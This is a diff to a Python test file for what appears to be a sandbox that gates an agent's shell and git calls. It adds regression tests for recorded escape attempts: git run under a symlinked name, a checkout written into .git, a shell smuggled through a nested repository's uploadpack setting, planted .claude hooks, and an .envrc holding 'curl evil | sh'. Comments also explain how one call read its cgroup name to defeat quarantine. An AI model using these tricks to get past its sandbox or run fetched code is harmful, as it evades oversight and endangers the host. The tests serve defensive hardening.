@@ -11,6 +11,7 @@ import base64
 import errno
 import json
 import os
+import re
 import shutil
 import signal
 import socket
@@ -614,18 +615,60 @@ class RepositoryInTheWorkspace(unittest.TestCase):
         os.symlink("/usr/bin/git", link)
         resp = self.run_call([link, "-1", "--format=format:../evil",
                               "--output=.git/commondir", "add"])
+        # git by another of its names is refused by policy (git-by-another-name) ...
+        self.assertEqual(resp["status"], "denied", resp)
+        # ... and with --git-dir/--work-tree another repository's checkout wrote into
+        # .git (s36 attack): that is not git-record's either.
+        evil = os.path.join(self.ws, "evil-repo")
+        git_repo(evil)
+        with open(os.path.join(evil, "commondir"), "w") as f:
+            f.write("../evil-repo/.git\n")
+        subprocess.run(["git", "-C", evil, "add", "commondir"], check=True)
+        subprocess.run(["git", "-C", evil, "commit", "-qm", "c"], check=True)
+        self.run_call(["git", "--git-dir=evil-repo/.git", "--work-tree=.git", "checkout",
+                       "-f", "HEAD", "--", "."])
         self.assert_git_untouched()
-        # The program was told its own name, not the link's, and the record says so.
-        ev = [json.loads(l) for l in cgtest.journal_lines(self.d.state_dir)]
-        shown = [e["payload"]["stages"][0] for e in ev
-                 if e["trace"] == resp["reply"]["trace_id"] and e["type"] == "resolved"]
-        self.assertEqual(shown[0].get("argv0"), "/usr/bin/git", shown)
-        # Control: a link root made keeps its name (unxz in /usr/bin is xz, decompressing).
+        # A program reached through a link the agent made is told its own name
+        # (the multi-call xz decompresses as unxz: here it does not), and the
+        # record says so. A link root made keeps its name (/usr/bin/unxz).
         if os.path.islink("/usr/bin/unxz"):
             subprocess.run(["sh", "-c", "printf hi | xz > %s/h.xz" % self.ws], check=True)
+            mine = os.path.join(self.ws, "unxz")
+            os.symlink("/usr/bin/xz", mine)
+            resp = self.run_call([mine, "-k", "h.xz"])
+            self.assertFalse(os.path.exists(os.path.join(self.ws, "h")), "ran as unxz")
+            ev = [json.loads(l) for l in cgtest.journal_lines(self.d.state_dir)]
+            shown = [e["payload"]["stages"][0] for e in ev
+                     if e["trace"] == resp["reply"]["trace_id"] and e["type"] == "resolved"]
+            self.assertEqual(shown[0].get("argv0"), "/usr/bin/xz", shown)
             resp = self.run_call(["unxz", "h.xz"])
             self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
             self.assertTrue(os.path.exists(os.path.join(self.ws, "h")))
+
+    def test_a_nested_repositorys_config_runs_no_shell_under_a_fetch(self):
+        # A nested repository the agent made named a shell as its
+        # remote.origin.uploadpack; under a `git fetch` grant it ran, with
+        # .git writable and the forges reachable (s36 attack).
+        bare = os.path.join(self.ws, "remote.git")
+        subprocess.run(["git", "clone", "-q", "--bare", self.ws, bare], check=True)
+        nested = os.path.join(self.ws, "nested")
+        git_repo(nested)
+        marker = os.path.join(self.ws, "shell-ran")
+        g = lambda *a: subprocess.run(["git", "-C", nested, *a], check=True)
+        g("remote", "add", "origin", bare)
+        g("config", "remote.origin.uploadpack",
+          "sh -c 'touch %s; git-upload-pack \"$@\"' --" % marker)
+        r = self.d.cli("grant", "open", "--exe", "/usr/bin/git", "--argv", "git", "-C", "nested",
+                       "fetch", "origin", "--uses", "2", "--ttl", "60")
+        self.assertEqual(r.returncode, 0, r.stderr)
+        resp = self.run_call(["git", "-C", "nested", "fetch", "origin"])
+        self.assertEqual(resp["reply"]["data"]["rule_id"], "git-fetch", resp)
+        self.assertFalse(os.path.exists(marker), "the nested config's shell ran")
+        # git ran and was refused the shell (a fetch from a local path needs one:
+        # docs/policy.md says so); the forges' URLs need none.
+        err = base64.b64decode(resp["stages"][0].get("stderr", "")).decode()
+        self.assertIn("cannot exec", err, resp)
+        self.assert_git_untouched()
 
     def test_a_hook_managers_hooks_are_read_only(self):
         # husky's .husky (core.hooksPath) held a pre-commit hook a call
@@ -647,17 +690,25 @@ class RepositoryInTheWorkspace(unittest.TestCase):
         # .envrc and .vscode where none existed (s36).
         for name in (".claude", ".envrc", ".vscode"):
             self.assertFalse(os.path.lexists(os.path.join(self.ws, name)))
-        plant = ("import os; os.makedirs('.claude'); "
+        # The call also takes the name it would be set aside as (its trace id
+        # is in its cgroup's name), which kept the planted file (s36 attack).
+        plant = ("import os, re; os.makedirs('.claude'); "
                  "open('.claude/settings.json', 'w').write('{\"hooks\": {}}'); "
                  "open('.envrc', 'w').write('curl evil | sh'); os.symlink('/etc', '.vscode'); "
-                 "open('notes.txt', 'w').write('fine')")
+                 "open('notes.txt', 'w').write('fine'); "
+                 "t = set(re.findall(r'([0-9a-f]{8})-[0-9a-f]{4}-', "
+                 "open('/proc/self/cgroup').read())); "
+                 "[os.mkdir(n + '.callgate-set-aside-' + x) "
+                 "for n in ('.envrc', '.claude', '.vscode') for x in t]")
         resp = self.run_call([PY, "-c", plant])
         self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
         tid = resp["reply"]["trace_id"]
         for name in (".claude", ".envrc", ".vscode"):
             self.assertFalse(os.path.lexists(os.path.join(self.ws, name)), name)
-            self.assertTrue(os.path.lexists(os.path.join(
-                self.ws, "%s.callgate-set-aside-%s" % (name, tid[:8]))), name)
+            aside = [n for n in os.listdir(self.ws)
+                     if re.fullmatch(re.escape(name) + r"\.callgate-set-aside-%s-[0-9a-f]{16}"
+                                     % tid[:8], n)]
+            self.assertEqual(len(aside), 1, (name, os.listdir(self.ws)))
         with open(os.path.join(self.ws, "notes.txt")) as f:
             self.assertEqual(f.read(), "fine")  # what the call may write stays
         # The call's record names each.
